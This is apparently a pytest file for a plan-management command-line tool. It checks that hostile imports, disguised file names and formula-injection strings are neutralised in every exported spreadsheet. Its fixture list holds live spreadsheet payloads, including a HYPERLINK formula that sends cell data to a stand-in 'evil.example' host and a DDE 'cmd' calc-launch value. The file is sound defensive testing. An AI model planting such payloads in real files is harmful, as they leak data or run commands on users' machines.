"""What escapes the older guards: hostile packages (lone surrogates, control and bidirectional
characters, long names, a real file of zeros, a lying bomb), formula injection in every xlsx the
product writes, names that are not UTF-8, and the row ``set --json`` echoes — through the real
command line (issue 18)."""

from __future__ import annotations

import hashlib
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from tests.hostile.make_corpus import REFUSE
from tests.hostile.make_packages import ACCEPT, build_packages

from .helpers import run


def snapshot(data_dir: Path) -> tuple[list[str], dict[str, str]]:
    """The database's content (as SQL) and every stored file with its hash."""
    con = sqlite3.connect(data_dir / "cxdesk.sqlite3")
    dump = list(con.iterdump())
    con.close()
    store = data_dir / "store"
    files = {
        str(p.relative_to(data_dir)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(store.rglob("*"))
        if p.is_file() and "journal" not in p.parts
    } if store.exists() else {}  # fmt: skip
    return dump, files


@pytest.fixture(scope="module")
def packages(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    folder = tmp_path_factory.mktemp("hostile-packages")
    return folder, build_packages(folder)


PACKAGES = [
    "lone_surrogate.cxplan", "control_chars.cxplan", "bidi_name.cxplan", "long_name.cxplan",
    "zeros.cxplan", "lying_bomb.cxplan",
]  # fmt: skip


@pytest.mark.parametrize("name", PACKAGES)
def test_hostile_package(
    capsys: pytest.CaptureFixture[str],
    data_dir: Path,
    packages: tuple[Path, dict[str, str]],
    name: str,
) -> None:
    folder, expect = packages
    run(capsys, "new", "szn_pilot", "--org", "ЦЗН")
    before = snapshot(data_dir)
    code, out, err = run(capsys, "import", str(folder / name), "--json")
    assert "Traceback" not in err
    if expect[name] == REFUSE:
        assert code == 2, (out, err)
        assert err.startswith("cxdesk: error:") and err.count("\n") == 1
        assert snapshot(data_dir) == before
    else:
        assert expect[name] == ACCEPT
        assert code == 0, err
        exported_everywhere(capsys, data_dir, 2)
    tmp = data_dir / "store" / "tmp"
    left = [p for p in tmp.rglob("*") if p.is_file()] if tmp.exists() else []
    assert not left, left


def exported_everywhere(capsys: pytest.CaptureFixture[str], data_dir: Path, plan: int) -> None:
    """The plan goes out in every format, and its attachments are shown and saved neutralised."""
    import json
    import unicodedata

    from cxdesk.services.attachments import list_attachments, save_copy
    from cxdesk.storage.db import Store

    out = data_dir.parent / "out"
    out.mkdir(exist_ok=True)
    for cmd, ext in (("export", "docx"), ("export", "xlsx"), ("export", "pdf"),
                     ("report", "docx"), ("report", "pdf"), ("calendar", "ics")):  # fmt: skip
        target = out / f"{cmd}.{ext}"
        code, _, err = run(capsys, cmd, str(plan), "-o", str(target))
        assert code == 0 and target.stat().st_size > 0, (cmd, ext, err)
    code, _, err = run(capsys, "summary", "-o", str(out / "summary.xlsx"))
    assert code == 0, err
    rows = json.loads(run(capsys, "show", str(plan), "--json")[1])["rows"]
    for row in rows:
        for key, value in row.items():
            if isinstance(value, str):
                bad = [c for c in value if unicodedata.category(c) in ("Cc", "Cs", "Cf")
                       and c not in "\n\t\u00ad\u200b\u200c\u200d"]  # fmt: skip
                assert not bad, (key, value)
    store = Store(data_dir)
    try:
        for row in rows:
            if row["kind"] != "item":
                continue
            for att in list_attachments(store, plan, f"#{row['id']}"):
                assert "\u202e" not in att.name and len(att.name) < 1000
                saved = save_copy(store, att.id, out / att.name)
                assert saved.is_file() and len(saved.name.encode()) <= 255
    finally:
        store.close()


# --- every xlsx the product writes: hostile text never becomes a formula ----------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")', "+cmd|' /C calc'!A0", "-1+1",
    "@SUM(1,2)", "\t=1+1", "\r=1+1", " =2+2", "＝3+3",
]  # fmt: skip


def _formula_cells(path: Path) -> list[str]:
    """Every cell openpyxl reads as a formula, and every <f> element in the raw sheets."""
    import zipfile

    from openpyxl import load_workbook

    found = [
        f"{ws.title}!{c.coordinate}"
        for ws in load_workbook(path).worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and (
                b"<f>" in z.read(name) or b"<f " in z.read(name)
            ):
                found.append(name)
    return found


def _texts(path: Path) -> list[str]:
    from openpyxl import load_workbook

    return [
        str(c.value) for ws in load_workbook(path).worksheets for row in ws.iter_rows()
        for c in row if c.value is not None
    ]  # fmt: skip


def test_no_xlsx_the_product_writes_holds_a_formula(
    capsys: pytest.CaptureFixture[str], data_dir: Path, tmp_path: Path
) -> None:
    from cxdesk.io.findings_writer import write_findings

    for i, text in enumerate(FORMULAS):
        assert run(capsys, "new", "szn_pilot", f"--org={text}")[0] == 0
        code, _, err = run(
            capsys, "set", str(i + 1), "1", f"--result={text}", f"--responsible={text}"
        )
        assert code == 0, err
    written = []
    for pid in range(1, len(FORMULAS) + 1):
        out = tmp_path / f"план{pid}.xlsx"
        code, _, err = run(capsys, "export", str(pid), "-o", str(out))
        assert code == 0, err
        written.append(out)
    summary = tmp_path / "сводка.xlsx"
    assert run(capsys, "summary", "-o", str(summary))[0] == 0
    audit = tmp_path / "замечания.xlsx"
    assert run(capsys, "audit", "1", "-o", str(audit))[0] == 0
    findings = tmp_path / "список.xlsx"
    rows = [{"item": t, "problem_ru": t, "detail": t} for t in FORMULAS]
    write_findings(rows, FORMULAS[0], findings)
    written += [summary, audit, findings]
    for path in written:
        assert _formula_cells(path) == [], path.name
    texts = set(_texts(summary)) | set(_texts(findings)) | set(_texts(written[0]))
    # the words are kept (only XML-illegal characters would be dropped)
    assert {FORMULAS[0], "-1+1", "@SUM(1,2)", "\t=1+1"} <= texts
    from openpyxl import load_workbook

    ws = load_workbook(findings).active
    prefixed = [c.quotePrefix for row in ws.iter_rows(min_row=4) for c in row[1:2]]
    assert all(prefixed) and len(prefixed) == len(FORMULAS)


def test_set_echoes_the_row_it_changed(capsys: pytest.CaptureFixture[str], data_dir: Path) -> None:
    import json

    from .helpers import all_answers, answer_args

    answers = answer_args(all_answers("region", True))
    assert run(capsys, "new", "region", "--org", "Область", *answers)[0] == 0
    rows = json.loads(run(capsys, "show", "1", "--json")[1])["rows"]
    numbers = {r["number"]: r["id"] for r in rows if r["kind"] == "item"}
    shown = {r["number"].rstrip(".") for r in rows}
    # row ids and shown numbers overlap: an id read back as a number names another row
    clash = [n for n, rid in numbers.items() if str(rid) in shown]
    assert clash
    for number in clash[:5]:
        code, out, err = run(capsys, "set", "1", number, "--status", "done", "--json")
        assert code == 0, err
        assert json.loads(out) == {"id": numbers[number], "status": "done"}


# --- file names that escape the guards --------------------------------------------------------


def _cli(data: Path, *argv: str | bytes) -> Any:
    import os
    import subprocess
    import sys

    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    return subprocess.run(
        [sys.executable, "-m", "cxdesk", "--data-dir", str(data), *argv],
        capture_output=True, env=env, timeout=120,
    )  # fmt: skip


def test_names_not_utf8_bidi_and_long(tmp_path: Path) -> None:
    import json
    import os

    data = tmp_path / "data"
    assert _cli(data, "new", "szn_pilot", "--org", "ЦЗН").returncode == 0
    folder = os.fsencode(tmp_path)
    cp1251 = folder + b"/" + "Приказ № 5.pdf".encode("cp1251")  # from a Windows archive
    bidi = tmp_path / "invoice\u202efdp.exe"
    stem = "Протокол заседания рабочей группы " * 3 + "итог "
    long = tmp_path / (stem + "x" * (246 - len(stem.encode())) + ".pdf")  # 250 bytes
    assert 242 <= len(long.name.encode()) <= 255
    with open(cp1251, "wb") as f:
        f.write(b"%PDF cp1251")
    bidi.write_bytes(b"MZ")
    long.write_bytes(b"%PDF long")
    for item, path in (("1", cp1251), ("2", os.fsencode(bidi)), ("3", os.fsencode(long))):
        done = _cli(data, "attach", "1", item, path)
        assert done.returncode == 0 and b"Traceback" not in done.stderr, done.stderr
    names = [
        json.loads(_cli(data, "attachments", "1", item, "--json").stdout)[0]["name"]
        for item in ("1", "2", "3")
    ]
    assert names == ["Приказ № 5.pdf", "invoicefdp.exe", long.name]
    docx = folder + b"/" + "План ЦЗН.docx".encode("cp1251")
    with open(docx, "wb") as f:
        f.write(b"not a document")
    done = _cli(data, "import", docx)
    assert done.returncode == 2 and b"Traceback" not in done.stderr
    assert done.stderr.decode("utf-8").startswith("cxdesk: error:")
    out = tmp_path / "выгрузка"
    out.mkdir()
    done = _cli(data, "export", "1", "-o", str(out / f"{long.name[:-4]}.xlsx"))
    assert done.returncode == 0, done.stderr.decode()
    from cxdesk.services.attachments import list_attachments, save_copy
    from cxdesk.storage.db import Store

    store = Store(data)
    try:
        att = list_attachments(store, 1, "3")[0]
        saved = save_copy(store, att.id, out / (att.name * 2))  # 500 bytes: shortened on disk
        assert saved.read_bytes() == b"%PDF long" and saved.suffix == ".pdf"
        assert list_attachments(store, 1, "3")[0].name == long.name  # the name is kept
    finally:
        store.close()
